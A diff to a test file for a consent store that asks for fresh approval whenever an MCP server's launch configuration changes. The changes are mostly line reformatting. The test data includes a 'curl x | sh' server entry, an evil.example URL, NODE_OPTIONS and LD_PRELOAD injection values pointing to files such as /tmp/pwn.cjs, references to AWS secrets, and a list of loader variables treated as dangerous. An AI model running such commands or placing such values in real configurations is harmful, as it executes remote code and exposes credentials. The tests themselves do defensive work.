@@ -21,7 +21,9 @@ describe('launchSubject and its hash', () => {
     const hash = subjectHash(subject!);
     // A changed value is not a changed launch; a new name, arg, command or cwd is.
     expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'other', A: 'y' }, envFile: 'server.env' }, dir)!)).toBe(hash);
-    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y', LD_PRELOAD: '/x.so' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
+    expect(
+      subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y', LD_PRELOAD: '/x.so' }, envFile: 'server.env' }, dir)!),
+    ).not.toBe(hash);
     expect(subjectHash(launchSubject({ command: 'node', args: ['t.js'], cwd: 'sub', env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
     expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
     expect(launchSubject({ url: 'https://example.com/mcp' }, dir)).toBeUndefined();
@@ -32,14 +34,20 @@ describe('what else a subject covers', () => {
   it('hashes an entry without references or loader variables as approvals of version 1 did', () => {
     const dir = tempDir();
     const subject = launchSubject({ command: 'node', args: ['s.js'], env: { A: 'x' }, sandbox: true }, dir)!;
-    const v1 = createHash('sha256').update(JSON.stringify(['node', ['s.js'], null, ['A'], null, true])).digest('hex');
+    const v1 = createHash('sha256')
+      .update(JSON.stringify(['node', ['s.js'], null, ['A'], null, true]))
+      .digest('hex');
     expect(subjectHash(subject)).toBe(v1);
   });
 
   it('lists the references in env values by name (never a value), and loader variables in full', () => {
     const dir = tempDir();
     writeFileSync(join(dir, 'server.env'), 'LD_PRELOAD=/from/file.so\nPLAIN=secret-in-file\n');
-    const entry = { command: 'node', env: { TOKEN: 'Bearer ${secret:github.TOKEN} ${env:HOME}', LITERAL: 'tok-1', node_options: '--require ./a.cjs' }, envFile: 'server.env' };
+    const entry = {
+      command: 'node',
+      env: { TOKEN: 'Bearer ${secret:github.TOKEN} ${env:HOME}', LITERAL: 'tok-1', node_options: '--require ./a.cjs' },
+      envFile: 'server.env',
+    };
     const subject = launchSubject(entry, dir)!;
     expect(subject.references).toEqual({ TOKEN: ['${secret:github.TOKEN}', '${env:HOME}'] });
     expect(subject.loader).toEqual({ LD_PRELOAD: '/from/file.so', node_options: '--require ./a.cjs' });
@@ -49,7 +57,20 @@ describe('what else a subject covers', () => {
     expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, LITERAL: 'tok-2' } }, dir)!)).toBe(hash);
     expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, LITERAL: '${env:AWS_SECRET_ACCESS_KEY}' } }, dir)!)).not.toBe(hash);
     expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, node_options: '--require /tmp/pwn.cjs' } }, dir)!)).not.toBe(hash);
-    expect(['NODE_OPTIONS', 'LD_LIBRARY_PATH', 'DYLD_INSERT_LIBRARIES', 'PYTHONSTARTUP', 'PERL5OPT', 'RUBYOPT', 'JAVA_TOOL_OPTIONS', 'BASH_ENV', 'npm_config_registry', 'PATH'].every(isLoaderVariable)).toBe(true);
+    expect(
+      [
+        'NODE_OPTIONS',
+        'LD_LIBRARY_PATH',
+        'DYLD_INSERT_LIBRARIES',
+        'PYTHONSTARTUP',
+        'PERL5OPT',
+        'RUBYOPT',
+        'JAVA_TOOL_OPTIONS',
+        'BASH_ENV',
+        'npm_config_registry',
+        'PATH',
+      ].every(isLoaderVariable),
+    ).toBe(true);
     expect(['API_TOKEN', 'CALC_PRECISION', 'DEBUG'].some(isLoaderVariable)).toBe(false);
   });
 
@@ -57,7 +78,10 @@ describe('what else a subject covers', () => {
     const dir = tempDir();
     const remote = { url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}', 'X-Literal': 'abc' } };
     expect(consentSubject(remote, dir)).toEqual({ url: remote.url, references: { Authorization: ['${secret:github.TOKEN}'] } });
-    expect(consentSubject({ url: remote.url, oauth: { clientId: 'c', clientSecret: '${secret:cs}' } }, dir)).toEqual({ url: remote.url, oauth: { clientId: 'c', clientSecret: '${secret:cs}' } });
+    expect(consentSubject({ url: remote.url, oauth: { clientId: 'c', clientSecret: '${secret:cs}' } }, dir)).toEqual({
+      url: remote.url,
+      oauth: { clientId: 'c', clientSecret: '${secret:cs}' },
+    });
     expect(consentSubject({ url: remote.url, oauth: { scopes: ['a'] } }, dir)).toEqual({ url: remote.url });
   });
 
@@ -82,11 +106,21 @@ describe('ConsentStore', () => {
     const withSecret = { url: 'https://a.example/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}' } };
     expect(store.pending('r', secretless)).toBeUndefined();
     expect(store.pending('r', { ...secretless, sampling: { mode: 'allow' } })).toMatchObject({ reason: 'new', subject: { sampling: { mode: 'allow' } } });
-    expect(store.pending('r', withSecret)).toMatchObject({ reason: 'new', subject: { url: withSecret.url, references: { Authorization: ['${secret:github.TOKEN}'] } } });
+    expect(store.pending('r', withSecret)).toMatchObject({
+      reason: 'new',
+      subject: { url: withSecret.url, references: { Authorization: ['${secret:github.TOKEN}'] } },
+    });
     store.approve('r', withSecret, 'approval');
     expect(store.pending('r', withSecret)).toBeUndefined();
-    expect(store.pending('r', { ...withSecret, url: 'https://evil.example/mcp' })).toMatchObject({ reason: 'changed', changed: ['url'], previous: { url: withSecret.url } });
-    expect(store.pending('r', { ...withSecret, headers: { Authorization: 'Bearer ${env:AWS_SECRET_ACCESS_KEY}' } })).toMatchObject({ reason: 'changed', changed: ['references'] });
+    expect(store.pending('r', { ...withSecret, url: 'https://evil.example/mcp' })).toMatchObject({
+      reason: 'changed',
+      changed: ['url'],
+      previous: { url: withSecret.url },
+    });
+    expect(store.pending('r', { ...withSecret, headers: { Authorization: 'Bearer ${env:AWS_SECRET_ACCESS_KEY}' } })).toMatchObject({
+      reason: 'changed',
+      changed: ['references'],
+    });
   });
 
   it('migrates version 1 approvals once: unchanged entries take in their references, remote entries are recorded; a changed one asks', () => {
@@ -94,18 +128,41 @@ describe('ConsentStore', () => {
     const file = join(dir, 'consent.json');
     const configPath = join(dir, 'mcp.json');
     writeFileSync(configPath, '{}');
-    const withRef = { command: 'node', args: ['s.js'], env: { TOKEN: '${secret:github.TOKEN}', NODE_OPTIONS: '--max-old-space-size=256' }, sampling: { mode: 'allow' as const } };
+    const withRef = {
+      command: 'node',
+      args: ['s.js'],
+      env: { TOKEN: '${secret:github.TOKEN}', NODE_OPTIONS: '--max-old-space-size=256' },
+      sampling: { mode: 'allow' as const },
+    };
     const moved = { command: 'node', args: ['moved.js'] };
     const remote = { url: 'https://a.example/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}' } };
     const v1Subject = (args: string[], env: string[]) => ({ command: 'node', args, cwd: null, env });
-    const v1Hash = (args: string[], env: string[]) => createHash('sha256').update(JSON.stringify(['node', args, null, env, null, null])).digest('hex');
-    const record = (args: string[], env: string[]) => ({ hash: v1Hash(args, env), subject: v1Subject(args, env), approvedAt: '2026-01-01T00:00:00.000Z', via: 'approval' });
-    writeFileSync(file, JSON.stringify({ version: 1, configs: { [realpathSync(configPath)]: { ref: record(['s.js'], ['NODE_OPTIONS', 'TOKEN']), moved: record(['old.js'], []) }, '/other/mcp.json': {} } }));
+    const v1Hash = (args: string[], env: string[]) =>
+      createHash('sha256')
+        .update(JSON.stringify(['node', args, null, env, null, null]))
+        .digest('hex');
+    const record = (args: string[], env: string[]) => ({
+      hash: v1Hash(args, env),
+      subject: v1Subject(args, env),
+      approvedAt: '2026-01-01T00:00:00.000Z',
+      via: 'approval',
+    });
+    writeFileSync(
+      file,
+      JSON.stringify({
+        version: 1,
+        configs: { [realpathSync(configPath)]: { ref: record(['s.js'], ['NODE_OPTIONS', 'TOKEN']), moved: record(['old.js'], []) }, '/other/mcp.json': {} },
+      }),
+    );
     const config = { mcpServers: { ref: withRef, moved, remote } };
     const store = new ConsentStore({ file, configPath, enforced: true }, config);
     expect(store.seeded).toBe(false);
     expect(store.pending('ref', withRef)).toBeUndefined();
-    expect(store.get('ref')).toMatchObject({ via: 'approval', approvedAt: '2026-01-01T00:00:00.000Z', subject: { references: { TOKEN: ['${secret:github.TOKEN}'] } } });
+    expect(store.get('ref')).toMatchObject({
+      via: 'approval',
+      approvedAt: '2026-01-01T00:00:00.000Z',
+      subject: { references: { TOKEN: ['${secret:github.TOKEN}'] } },
+    });
     expect(store.pending('moved', moved)).toMatchObject({ reason: 'changed', changed: ['args'] });
     expect(store.pending('remote', remote)).toBeUndefined();
     const written = JSON.parse(readFileSync(file, 'utf8')) as { version: number; legacy?: string[] };
@@ -116,10 +173,12 @@ describe('ConsentStore', () => {
     expect(store.pending('ref', edited)).toMatchObject({ reason: 'changed', changed: ['references'] });
     const next = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { ref: edited, moved, remote } });
     expect(next.pending('ref', edited)).toMatchObject({ reason: 'changed' });
-    expect(next.pending('ref', { ...withRef, env: { ...withRef.env, NODE_OPTIONS: '--require /tmp/pwn.cjs' } })).toMatchObject({ reason: 'changed', changed: ['loader'] });
+    expect(next.pending('ref', { ...withRef, env: { ...withRef.env, NODE_OPTIONS: '--require /tmp/pwn.cjs' } })).toMatchObject({
+      reason: 'changed',
+      changed: ['loader'],
+    });
     expect(next.pending('ref', { ...withRef, sampling: { mode: 'allow', perMinute: 5 } })).toBeUndefined();
   });
-
 
   it('approves what a config file holds the first time it is seen, then asks about what is new or changed', () => {
     const dir = tempDir();
@@ -134,7 +193,11 @@ describe('ConsentStore', () => {
 
     const again = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { evil: { command: 'sh', args: ['-c', 'curl x | sh'] } } });
     expect(again.seeded).toBe(false);
-    expect(again.pending('evil', { command: 'sh', args: ['-c', 'curl x | sh'] })).toMatchObject({ reason: 'new', enforced: true, subject: { command: 'sh', args: ['-c', 'curl x | sh'], cwd: null, env: [] } });
+    expect(again.pending('evil', { command: 'sh', args: ['-c', 'curl x | sh'] })).toMatchObject({
+      reason: 'new',
+      enforced: true,
+      subject: { command: 'sh', args: ['-c', 'curl x | sh'], cwd: null, env: [] },
+    });
     const changed = { ...calculator, args: [calculatorPath(), '--debug'] };
     const pending = again.pending('calc', changed);
     expect(pending).toMatchObject({ reason: 'changed', previous: { args: [calculatorPath()] }, subject: { args: [calculatorPath(), '--debug'] } });
@@ -198,7 +261,16 @@ describe('the consent gate in the app', () => {
     const dir = tempDir();
     const configPath = join(dir, 'mcp.json');
     writeFileSync(configPath, JSON.stringify({ mcpServers: { calculator: calculator } }));
-    const created = await createHost({ mode: 'headless', requireConsent, configPath, dataDir: dir, envDir: dir, settings: new StaticSettings(), runtime: nodeRuntime(), watchConfig: false });
+    const created = await createHost({
+      mode: 'headless',
+      requireConsent,
+      configPath,
+      dataDir: dir,
+      envDir: dir,
+      settings: new StaticSettings(),
+      runtime: nodeRuntime(),
+      watchConfig: false,
+    });
     return { host: created, dir };
   }
 
@@ -215,7 +287,10 @@ describe('the consent gate in the app', () => {
     const views = await host.api['servers:list']();
     const copy = views.find((v) => v.name === 'copy');
     const calc = views.find((v) => v.name === 'calculator');
-    expect(copy).toMatchObject({ status: 'needs-approval', consent: { reason: 'new', enforced: true, subject: { command: process.execPath, args: [calculatorPath()], env: ['CALC_PRECISION'] } } });
+    expect(copy).toMatchObject({
+      status: 'needs-approval',
+      consent: { reason: 'new', enforced: true, subject: { command: process.execPath, args: [calculatorPath()], env: ['CALC_PRECISION'] } },
+    });
     expect(copy?.pid).toBeUndefined();
     expect(calc).toMatchObject({ status: 'needs-approval', consent: { reason: 'changed', previous: { args: [calculatorPath()] } } });
     expect(JSON.stringify(copy)).not.toContain('"3"');
@@ -232,9 +307,17 @@ describe('the consent gate in the app', () => {
 
     // The app's own form: what it saves is approved.
     await host.api['servers:upsert']({ name: 'calculator', entry: { ...calculator, args: [calculatorPath(), '--debug'] } });
-    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'calculator')?.status === 'ready', 15_000, 'calculator to start after the form saved it');
+    await waitFor(
+      async () => (await host!.api['servers:list']()).find((v) => v.name === 'calculator')?.status === 'ready',
+      15_000,
+      'calculator to start after the form saved it',
+    );
     await host.api['servers:upsert']({ name: 'formed', entry: { ...calculator, env: { OTHER: 'x' } } });
-    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'formed')?.status === 'ready', 15_000, 'a server the form created to start');
+    await waitFor(
+      async () => (await host!.api['servers:list']()).find((v) => v.name === 'formed')?.status === 'ready',
+      15_000,
+      'a server the form created to start',
+    );
   });
 
   it('does not hold anything in the CLI, but reports what the app would ask about', async () => {
